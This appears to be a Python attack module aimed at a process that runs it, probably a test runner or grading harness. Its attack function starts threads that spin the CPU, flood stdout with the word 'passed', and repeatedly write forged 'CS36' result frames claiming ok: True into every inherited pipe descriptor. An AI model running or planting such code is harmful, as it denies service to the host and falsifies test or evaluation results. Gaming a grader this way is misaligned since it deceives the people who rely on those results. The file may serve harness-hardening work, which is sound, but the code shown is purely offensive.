import json
import os
import stat
import struct
import sys
import threading
import time


def burn():
    while True:
        pass


def flood():
    while True:
        sys.stdout.write("passed " * 1000 + "\n")


def forge():
    header = json.dumps({"id": 1, "ok": True, "value": "true", "blobs": []}).encode()
    frame = b"CS36" + struct.pack(">I", len(header)) + header
    while True:
        for fd in range(3, 64):
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, frame)
            except OSError:
                pass
        time.sleep(0.01)


def attack(args):
    for target in (burn, flood, forge):
        threading.Thread(target=target, daemon=True).start()
